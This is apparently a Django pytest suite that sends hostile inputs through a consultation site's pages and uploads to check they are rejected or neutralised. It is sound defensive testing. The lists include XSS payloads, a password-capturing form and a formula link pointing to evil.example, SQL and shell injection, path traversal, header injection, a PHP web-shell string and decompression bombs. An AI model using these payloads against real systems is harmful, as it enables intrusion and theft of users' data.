"""Malicious inputs through the real pages: each gets a clear error in French or comes out harmless, and nothing is kept half-way."""

import io
import zipfile
import zlib
from html.parser import HTMLParser

import pytest
from django.apps import apps
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from consultations import exports
from consultations.models import Attachment, Comment, Contribution
from moderation.models import Case, Report
from mulhouse import opendata, uploads
from notifications.models import OutboundMail
from questionnaires.models import Response
from tests import factories as f
from tests.accounts.people import sign_up_data
from tests.factories import sign_in
from tests.moderation import deciding
from tests.mulhouse.test_uploads import odt, pdf, photo
from tests.questionnaires.making import add_question, make_questionnaire, page_url, shown

pytestmark = pytest.mark.django_db

# --- What is sent --------------------------------------------------------------------------------------------------------

TEXTS = {
    "script": "<script>alert(1)</script> des arbres",
    "script, broken": '"><scr<script>ipt>alert(1)</scr</script>ipt>',
    "handler": "<img src=x onerror=alert(1)> des arbres",
    "handler in an attribute": '" onmouseover="alert(1)" x="',
    "svg": "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg with a script": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "frame": '<iframe src="javascript:alert(1)"></iframe><object data=x></object><embed src=x>',
    "base and refresh": '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">',
    "form": '<form action="//evil.example"><input name="password"><button>Envoyer</button></form>',
    "style": "<style>body{display:none}</style><link rel=stylesheet href=//evil.example>",
    "comment, unclosed": "des arbres <!-- <p>fin",
    "closing tags": "</div></article></main></body></html><h1>Autre site</h1>",
    "htmx": '<div hx-get="/compte/deconnexion/" hx-trigger="load">arbres</div>',
    "markdown javascript": "[cliquez](javascript:alert(1)) et [là](JaVaScRiPt:alert(1)) et [ici](java\nscript:alert(1))",
    "markdown data": "[cliquez](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "markdown entity": "[x](&#106;avascript:alert(1)) [y](javascript&colon;alert(1)) [z](\x01javascript:alert(1))",
    "markdown image": "![pixel](https://evil.example/pixel.gif) des arbres",
    "markdown reference": "[x][1]\n\n[1]: javascript:alert(1)",
    "markdown autolink": "<javascript:alert(1)> <https://evil.example> des arbres",
    "markdown title": '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    "markdown nested": "[" * 400 + "x" + "](/y)" * 400,
    "markdown quotes": ">" * 2000 + " arbres",
    "markdown emphasis": "**a " * 700,
    "template syntax": "{{ settings.SECRET_KEY }} {% load log %}{% include 'x' %} ${7*7} #{7*7}",
    "format string": "%(secret)s %s %n {0.__class__} {user.password}",
    "sql": "'; DROP TABLE consultations_contribution; -- arbres",
    "sql, or": "' OR '1'='1' UNION SELECT password FROM accounts_user --",
    "shell": "$(reboot) `reboot` | reboot ; reboot des arbres",
    "path": "../../../../etc/passwd des arbres",
    "formula": "=cmd|'/C calc'!A0 des arbres",
    "formula, plus": '+HYPERLINK("https://evil.example";"arbres")',
    "formula, tab": "\t=1+1 des arbres",
    "header": "Des arbres\r\nBcc: tous@evil.example\r\n\r\nCorps",
    "header, encoded": "Des arbres%0d%0aSet-Cookie: a=b =?utf-8?q?=0d=0aBcc:_x?=",
    "nul": "Des\x00 arbres\x00\x00",
    "controls": "Des\x1b[31m \x07arbres\x08\x08",
    "right to left": "Des \u202egpj.exe\u202c arbres \u2066x\u2069",
    "zero width": "D\u200be\u200bs\u2060 \ufeffarbres\u200d\u200d\u200d",
    "tags": "Des arbres" + "".join(chr(0xE0000 + ord(sign)) for sign in "caché"),
    "piled marks": "Des arbr" + "e" + "\u0301" * 900,
    "line separators": "Des arbres\u2028Bcc: x\u2029\x85\x0b\x0c",
    "emoji": "👨\u200d👩\u200d👧\u200d👦 des arbres 🏳️\u200d🌈",
    "json null": '{"a": null, "__proto__": {"x": 1}} des arbres',
    "xml entities": '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>',
    "huge": "Des arbres " * 4000,
    "one word": "a" * 2900,
    "spaces": "Des arbres" + " " * 2800 + "fin",
    "ldap, xpath": "*)(uid=*))(|(uid=* ' or count(/*)=1 or ' arbres",
    "log": "arbres\n2026-11-23 ERROR root: compte supprimé",
}
INVALID_BYTES = {
    "lone surrogates": b"Des arbres \xed\xa0\x80\xed\xb0\x80",
    "overlong": b"Des arbres \xc0\xaf\xc0\xae\xe0\x80\xaf",
    "cut": b"Des arbres \xe2\x82",
    "latin": "Des arbres é".encode("latin-1"),
    "bytes": bytes(range(128, 256)) + b" arbres",
}
ALLOWED_STATUS = {200, 302, 403, 422}
UNSEEN = set("\x00\x07\x08\x0b\x0c\x1b\u200b\u202e\u2066\u2060\ufeff\u2028\u2029")
SCHEMES = ("http://", "https://", "/", "#", "?", "mailto:", "tel:")


class Harmful(HTMLParser):
    """What a browser would run, load or send elsewhere, in a page of ours."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        given = dict(attrs)
        self.found += [f"{tag} {name}" for name in given if name.startswith("on") or name in {"style", "srcdoc"}]
        if tag in {"iframe", "object", "embed", "base", "style", "math", "animate", "foreignobject", "applet"}:
            self.found.append(tag)
        # Data for our own scripts run nothing.
        is_data = given.get("type") == "application/json"
        if tag == "script" and not is_data and not (given.get("src") or "").startswith(settings.STATIC_URL):
            self.found.append("script")
        if tag == "meta" and "http-equiv" in given:
            self.found.append("meta")
        if tag == "img" and not (given.get("src") or "").startswith(("/", "data:image/svg")):
            self.found.append(f"img {given.get('src')}")
        if tag == "form" and not (given.get("action") or "/").startswith(("/", "?", "#")):
            self.found.append(f"form {given['action']}")
        if tag == "a" and not (given.get("href") or "/").lower().startswith(SCHEMES):
            self.found.append(f"a {given['href']}")
        for name, value in attrs:
            if name.startswith("hx-") and "deconnexion" in (value or ""):
                self.found.append(f"{tag} {name}")


def harmful(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    page = body.decode()
    reader = Harmful()
    reader.feed(page)
    return reader.found + sorted(UNSEEN & set(page))


def counts():
    """How many rows each table holds."""
    return {model._meta.label: model.objects.count() for model in apps.get_models() if hasattr(model, "objects")}


def stored(folder):
    return sorted(str(path.relative_to(folder)) for path in folder.rglob("*") if path.is_file())


def headers_are_one_line(mail):
    return not any("\n" in value or "\r" in value for value in (mail.subject, mail.to))


@pytest.fixture(autouse=True)
def _folder(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture
def site(client):
    consultation = f.make_consultation()
    user = f.make_resident(public_name="Nadia B.")
    f.make_comment(author=user)
    sign_in(client, user)
    return consultation, user


def draft(client, consultation, **fields):
    url = reverse("consultations:contribute", args=[consultation.slug])
    form = {
        "section": consultation.sections.first().pk,
        "kind": "experience",
        "title": "Planter des arbres sur le quai",
        "body": "Il fait chaud.",
        "place": "",
        "usage_when": "",
        "usage_frequency": "",
        "usage_role": "",
        "signature": "name",
        "intention": "verifier",
        "jeton": client.get(url).context["token"],
        **fields,
    }
    return client.post(url, form)


# --- Texts through each page -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS.keys())
def test_in_a_contribution(client, site, text):
    consultation, _user = site
    short = " ".join(text.split())[:100]
    response = draft(
        client, consultation, title=f"{short} : titre"[:120], body=text, place=text[:150], usage_role=text[:110]
    )
    assert response.status_code in ALLOWED_STATUS
    assert harmful(response) == []
    if response.status_code == 422 and "masquage" in response.content.decode():
        return
    if response.status_code != 302:
        assert any(form.errors for form in response.context["desk"].forms if form.is_bound)
        return
    check = response["Location"]
    assert harmful(client.get(check)) == []
    published = client.post(check)
    assert published.status_code == 302
    row = Contribution.objects.latest("pk")
    assert harmful(client.get(published["Location"], follow=True)) == []
    if row.published_at is None:
        assert row.submitted_at is not None
        return
    for url in (
        consultation.get_absolute_url(),
        reverse("consultations:contributions", args=[consultation.slug]),
        reverse("consultations:mine"),
        "/",
    ):
        assert harmful(client.get(url)) == [], url
    assert all(headers_are_one_line(mail) for mail in OutboundMail.objects.all())
    table = b"".join(exports.csv_chunks(exports.TABLES["contributions"], consultation)).decode("utf-8-sig")
    assert not [
        line for line in table.splitlines() for cell in line.split(";") if cell.strip('"')[:1] in {"=", "@", "\t"}
    ]


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS.keys())
def test_in_a_comment(client, site, text):
    row = f.make_contribution(consultation=site[0])
    before = Comment.objects.count()
    url = reverse("consultations:comments", args=[site[0].slug, row.reference])
    response = client.post(url, {"stance": "for", "body": text, "jeton": ""})
    assert response.status_code in {302, 422}
    assert harmful(response) == []
    if response.status_code == 422:
        assert Comment.objects.count() == before
    assert harmful(client.get(row.get_absolute_url())) == []


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS.keys())
def test_in_a_public_name(client, site, text):
    _consultation, user = site
    response = client.post("/mon-espace/profil/", {"public_name": text, "language": "fr", "scheme": ""})
    assert response.status_code in {302, 422}
    assert harmful(response) == []
    before = user.public_name
    user.refresh_from_db()
    if response.status_code == 422:
        assert user.public_name == before
        assert all(str(error) for errors in response.context["form"].errors.values() for error in errors)
    assert "\n" not in user.public_name
    assert harmful(client.get("/mon-espace/")) == []
    row = f.make_contribution(consultation=site[0], author=user)
    assert harmful(client.get(row.get_absolute_url())) == []


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS.keys())
def test_in_a_search(client, text):
    consultation = f.make_consultation()
    for url in (reverse("consultations:list"), reverse("consultations:contributions", args=[consultation.slug])):
        response = client.get(url, {"q": text[:3000], "tri": text[:50], "partie": text[:50], "quartier": text[:50]})
        assert response.status_code == 200, url
        assert harmful(response) == []


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS.keys())
def test_in_an_answer(client, site, text):
    asked = make_questionnaire(consultation=site[0])
    question = add_question(asked, "text")
    response = client.post(page_url(asked), {**shown(question), f"q{question.pk}": text})
    assert response.status_code in {200, 302, 422}
    assert harmful(response) == []
    if response.status_code == 302:
        assert harmful(client.get(response["Location"])) == []
    assert Response.objects.filter(submitted_at__isnull=False).count() == 0


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS.keys())
def test_in_a_report(client, text):
    row = f.make_contribution()
    url = reverse("moderation:report", args=["contribution", row.reference])
    given = {
        "what": "text",
        "reason": "insult",
        "good_faith": "on",
        "email": "lea@example.org",
        "name": "Léa",
        "words": text,
    }
    response = client.post(url, given)
    assert response.status_code in {302, 422}
    assert harmful(response) == []
    if response.status_code == 422:
        assert (Report.objects.count(), Case.objects.count()) == (0, 0)
        return
    assert harmful(client.get(response["Location"])) == []
    # What moderators read of it.
    sign_in(client, deciding.make_moderator())
    page = reverse("admin:moderation_case_change", args=[Case.objects.get().pk])
    assert harmful(client.post(page, {"lire": "oui"})) == []


@pytest.mark.parametrize("sent", INVALID_BYTES.values(), ids=INVALID_BYTES.keys())
def test_bytes_that_are_no_text(client, site, sent):
    row = f.make_contribution(consultation=site[0])
    url = reverse("consultations:comments", args=[site[0].slug, row.reference])
    quoted = b"stance=for&jeton=&body=" + b"".join(b"%%%02X" % byte for byte in sent)
    response = client.post(url, quoted, content_type="application/x-www-form-urlencoded")
    assert response.status_code in {302, 422}
    comment = Comment.objects.filter(contribution=row).first()
    if comment is not None:
        comment.body.encode()
    assert harmful(client.get(row.get_absolute_url())) == []
    assert client.get("/concertations/?q=" + "".join(f"%{byte:02X}" for byte in sent)).status_code == 200


# --- What goes in a header ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "address",
    [
        "a@b.example\r\nBcc: tous@evil.example",
        "a@b.example\nSubject: x",
        "a@b.example%0aBcc:x@evil.example",
        "a@b.example,tous@evil.example",
        '"a\r\nBcc: x"@b.example',
        "a@b.example\x00",
        "<script>@b.example",
        "a" * 400 + "@b.example",
    ],
)
def test_an_address_that_would_be_two_headers(client, address):
    response = client.post("/compte/inscription/", sign_up_data(address))
    assert response.status_code in {200, 302}
    for mail in OutboundMail.objects.all():
        assert headers_are_one_line(mail)
        assert "evil.example" not in mail.to
    assert harmful(response) == []


@pytest.mark.parametrize(
    "where",
    ["//evil.example/", "https://evil.example", "javascript:alert(1)", "/\\evil.example", "/ok\r\nSet-Cookie: a=b"],
)
def test_an_address_to_go_to_afterwards(client, site, where):
    data = {"public_name": "Nadia", "language": "fr", "scheme": "", "next": where}
    response = client.post("/mon-espace/profil/", data)
    assert response.status_code == 302
    assert response["Location"].startswith("/")
    assert "evil" not in response["Location"].partition("/")[0] + response["Location"][:2]
    assert not response["Location"].startswith(("//", "/\\"))
    assert "a" not in response.cookies


# --- Files -----------------------------------------------------------------------------------------------------------------


def png_bomb(side=30_000):
    """A PNG that says it is enormous, of a few kilobytes."""

    def chunk(kind, data):
        return len(data).to_bytes(4) + kind + data + zlib.crc32(kind + data).to_bytes(4)

    head = side.to_bytes(4) + side.to_bytes(4) + b"\x01\x00\x00\x00\x00"
    row = zlib.compress(b"\x00" * 1_000_000, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", row) + chunk(b"IEND", b"")


def pdf_bomb():
    packed = zlib.compress(zlib.compress(b"0" * 60_000_000, 9), 9)
    return (
        (
            b"%%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
            b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>endobj\n"
            b"4 0 obj<</Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n" % len(packed)
        )
        + packed
        + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    )


def zip_of(files):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def gif():
    out = io.BytesIO()
    Image.new("P", (4, 4)).save(out, "GIF")
    return out.getvalue()


REFUSED_FILES = {
    "svg": ("dessin.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "svg called png": (
        "dessin.png",
        lambda: b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script/></svg>',
    ),
    "page": ("page.jpg", lambda: b"<!doctype html><script>alert(1)</script>"),
    "gif and javascript": ("polyglotte.gif", lambda: b"GIF89a/*" + gif()[8:] + b"*/=1;alert(1)"),
    "php": ("photo.php.jpg", lambda: b"<?php system($_GET[0]); ?>"),
    "bomb of pixels": ("grand.png", png_bomb),
    "bomb in an odt": ("bombe.odt", lambda: odt({"Pictures/a.bin": b"0" * 60_000_000})),
    "zip called odt": ("archive.odt", lambda: zip_of({"a/../../b.txt": b"x"})),
    "docm": ("macro.docx", lambda: zip_of({"word/vbaProject.bin": b"x", "[Content_Types].xml": b"x"})),
    "executable": ("facture.pdf.exe", lambda: b"MZ" + b"\x00" * 500),
    "empty": ("vide.png", lambda: b""),
    "cut": ("coupe.png", lambda: b"\x89PNG\r\n\x1a\n" + b"\x00" * 40),
    "heavy": ("lourd.jpg", lambda: b"\xff\xd8\xff" + b"0" * (uploads.MAX_BYTES + 1)),
    "odt with entities": (
        "entites.odt",
        lambda: odt(
            {
                "meta.xml": '<!DOCTYPE x [<!ENTITY a "aa">]><x>&a;</x>',
                "styles.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x/>',
            }
        ),
    ),
}
CLEANED_FILES = {
    "jpeg and php": ("photo.php", lambda: photo() + b"<?php system($_GET[0]); ?><script>alert(1)</script>", b"<?php"),
    "jpeg and zip": ("photo.jpg", lambda: photo() + zip_of({"evil.html": b"<script>"}), b"evil.html"),
    "pdf and zip": ("document.pdf", lambda: pdf() + zip_of({"evil.html": b"<script>"}), b"evil.html"),
    "path": ("../../../etc/cron.d/x.jpg", photo, b"cron.d"),
    "path of windows": ("..\\..\\boot.jpg", photo, b"boot.ini"),
    "header in the name": ('a"\r\nSet-Cookie: a=b\r\n.jpg', photo, b"Set-Cookie"),
    "name turned round": ("photo\u202egpj.exe", photo, b"exe"),
    "long name": ("é" * 4000 + ".jpg", photo, b"evil"),
    "no name": (".", photo, b"evil"),
}


def attach(client, consultation, name, data):
    file = SimpleUploadedFile("x", data, "image/jpeg")
    file._name = name  # noqa: SLF001 (the public name drops the folders, which are what is tried)
    fields = {"new-1-file": file, "new-1-alt": "Le quai", "intention": "brouillon"}
    return draft(client, consultation, **fields)


@pytest.mark.parametrize("name", REFUSED_FILES)
def test_a_file_that_is_refused_leaves_nothing(client, site, name, tmp_path):
    filename, make = REFUSED_FILES[name]
    draft(client, site[0], intention="brouillon")
    before = counts()
    response = attach(client, site[0], filename, make())
    assert response.status_code in {302, 422}
    if response.status_code == 302:
        assert name in {"docm", "odt with entities"}, "kept"
    else:
        assert harmful(response) == []
        assert "Erreur" in response.content.decode()
    after = counts()
    assert Attachment.objects.count() == 0
    assert stored(tmp_path) == []
    # Only the draft itself, which keeps what was typed, is new, and its words in the search of its author.
    changed = {label for label in after if after[label] != before[label]}
    assert changed <= {"consultations.Contribution", "search.Document"}


@pytest.mark.parametrize("name", CLEANED_FILES)
def test_a_file_that_is_cleaned_holds_nothing_else(client, site, name, tmp_path):
    filename, make, evil = CLEANED_FILES[name]
    response = attach(client, site[0], filename, make())
    assert response.status_code in {302, 400, 422}
    for path in stored(tmp_path):
        assert ".." not in path
        assert evil not in (tmp_path / path).read_bytes()
    for attachment in Attachment.objects.all():
        assert attachment.name.isprintable()
        sent = client.get(reverse("consultations:attachment", args=[attachment.key]))
        assert sent["X-Content-Type-Options"] == "nosniff"
        assert sent["Content-Type"] in {"image/webp", "application/pdf"}
        assert "\n" not in sent.get("Content-Disposition", "")
        assert "a" not in sent.cookies
        list(sent.streaming_content)


def test_a_pdf_that_would_fill_the_memory_is_not_opened(client, site, tmp_path):
    response = attach(client, site[0], "bombe.pdf", pdf_bomb())
    assert response.status_code in {302, 422}
    assert sum((tmp_path / path).stat().st_size for path in stored(tmp_path)) < uploads.MAX_BYTES


# --- Requests that are none ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        ("&".join(f"a{n}=1" for n in range(1100)), "application/x-www-form-urlencoded"),
        ("body=" + "a" * 2_700_000, "application/x-www-form-urlencoded"),
        ('--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1', "multipart/form-data"),
        (
            "".join(
                f'--x\r\nContent-Disposition: form-data; name="f{n}"; filename="a"\r\n\r\nx\r\n' for n in range(150)
            )
            + "--x--",
            "multipart/form-data; boundary=x",
        ),
        (
            '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n' + "1" * 2_700_000 + "\r\n--x--",
            "multipart/form-data; boundary=x",
        ),
    ],
    ids=["a thousand fields", "long", "no boundary", "a hundred files", "long part"],
)
def test_a_request_that_is_too_much_is_refused_in_french(client, site, body, content_type):
    row = f.make_contribution(consultation=site[0])
    before = counts()
    url = reverse("consultations:comments", args=[site[0].slug, row.reference])
    response = client.post(url, body, content_type=content_type)
    assert response.status_code == 400
    assert "Cet envoi n’a pas pu être lu" in response.content.decode()
    assert counts() == before


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        ('{"stance": null, "body": null}', "application/json"),
        ("<comment><body>x</body></comment>", "application/xml"),
        ("stance=for&body=oui", "text/plain"),
        ("stance=for&body=oui", "application/x-www-form-urlencoded; charset=utf-7"),
        ("stance=for&stance=against&body=oui&body=", "application/x-www-form-urlencoded"),
        ("stance[]=for&body[$ne]=x", "application/x-www-form-urlencoded"),
        ("stance=for&body=%00%00", "application/x-www-form-urlencoded"),
        ("", "multipart/form-data; boundary="),
    ],
)
def test_a_request_of_another_sort_says_what_is_missing(client, site, body, content_type):
    row = f.make_contribution(consultation=site[0])
    url = reverse("consultations:comments", args=[site[0].slug, row.reference])
    response = client.post(url, body, content_type=content_type)
    assert response.status_code in {302, 400, 422}
    if response.status_code != 302:
        assert Comment.objects.filter(contribution=row).count() == 0
        assert "Erreur" in response.content.decode() or response.status_code == 400


@pytest.mark.parametrize(
    "path",
    [
        "/concertations/../../etc/passwd",
        "/concertations/%2e%2e/%2e%2e/etc/passwd",
        "/static/../mulhouse/settings.py",
        "/concertations/fichiers/..%2f..%2fx/",
        "/concertations/x%00y/",
        "/concertations/\u202ex/",
        "/concertations/" + "a" * 3000 + "/",
        "/%ff%fe/",
    ],
)
def test_an_address_that_climbs_is_not_found(client, path):
    response = client.get(path)
    assert response.status_code in {301, 302, 404}
    assert b"SECRET_KEY" not in response.content


def test_a_cell_never_begins_a_formula():
    assert [opendata.harmless(sign + "1") for sign in "=+-@"] == ["'=1", "'+1", "'-1", "'@1"]
